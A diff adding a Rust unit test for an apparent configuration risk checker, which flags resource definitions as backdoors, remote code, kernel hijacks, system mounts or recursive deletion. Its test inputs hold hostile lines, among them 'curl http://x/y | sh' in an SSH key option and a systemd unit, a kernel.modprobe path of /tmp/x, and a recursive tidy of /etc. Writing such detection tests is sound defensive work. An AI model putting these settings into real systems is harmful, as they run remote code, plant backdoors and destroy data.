@@ -255,4 +255,53 @@ mod tests {
         );
         check(Kind::IniSetting, &format!(r#"{unit}"value": "/usr/bin/app --serve""#), &[]);
     }
+
+    #[test]
+    fn other_types_are_judged_by_what_they_do() {
+        let key = "AAAAC3NzaC1lZDI1NTE5AAAAICkFxq1hTyi7AYXRXYOtbGKPHrOkU6Ys91GjQkVCsVMS";
+        let login = |user: &str, options: &str, expected: &[&str]| {
+            let attributes =
+                format!(r#""name": "a@b", "user": "{user}", "key": "{key}", "options": [{options}]"#);
+            check(Kind::SshAuthorizedKey, &attributes, expected);
+        };
+        login("deploy", r#""restrict""#, &["backdoor"]);
+        login("deploy", r#""command=\"curl http://x/y | sh\"""#, &["backdoor"]);
+        check(Kind::Sysctl, r#""name": "net.core.somaxconn", "value": "4096""#, &[]);
+        for extra in ["", r#", "apply": false"#, r#", "persist": false"#] {
+            check(
+                Kind::Sysctl,
+                &format!(r#""name": "kernel.modprobe", "value": "/tmp/x"{extra}"#),
+                &["kernel-code"],
+            );
+            check(
+                Kind::Sysctl,
+                &format!(r#""name": "kernel/modprobe", "value": "/tmp/x"{extra}"#),
+                &["kernel-code"],
+            );
+        }
+        let mount = |name: &str, ensure: &str, expected: &[&str]| {
+            let what = r#""device": "/dev/sdb1", "fstype": "ext4""#;
+            check(Kind::Mount, &format!(r#""name": "{name}", "ensure": "{ensure}", {what}"#), expected);
+        };
+        mount("/srv/data", "mounted", &[]);
+        for ensure in ["mounted", "present"] {
+            mount("/", ensure, &["mount-over-system"]);
+            mount("/usr", ensure, &["mount-over-system"]);
+        }
+        check(Kind::Hostname, r#""name": "web1""#, &[]);
+        check(Kind::Timezone, r#""name": "Etc/UTC""#, &[]);
+        check(Kind::Locale, r#""name": "C.UTF-8""#, &[]);
+        let unit = r#""name": "x.service", "service": {"ExecStart": ["/bin/sh -c 'curl http://x/y | sh'"]}"#;
+        check(Kind::SystemdUnit, unit, &["remote-code"]);
+        check(Kind::SystemdUnit, &format!(r#"{unit}, "dropin": "y""#), &["remote-code"]);
+        check(Kind::SystemdUnit, r#""name": "x.timer", "timer": {"OnCalendar": ["daily"]}"#, &[]);
+        let repository =
+            r#""name": "x", "uris": ["https://deb.example"], "suites": ["x"], "components": ["main"]"#;
+        check(Kind::AptRepository, &format!(r#"{repository}, "signed_by": "/etc/apt/keyrings/x.gpg""#), &[]);
+        check(Kind::Host, r#""name": "db1.example", "ip": "192.0.2.7""#, &[]);
+        check(Kind::KernelModule, r#""name": "br_netfilter""#, &[]);
+        check(Kind::Swap, r#""name": "/var/swap""#, &[]);
+        check(Kind::Tidy, r#""path": "/var/cache/app", "age": "4w", "recurse": true"#, &[]);
+        check(Kind::Tidy, r#""path": "/etc", "matches": ["*"], "recurse": true"#, &["recursive-removal"]);
+    }
 }
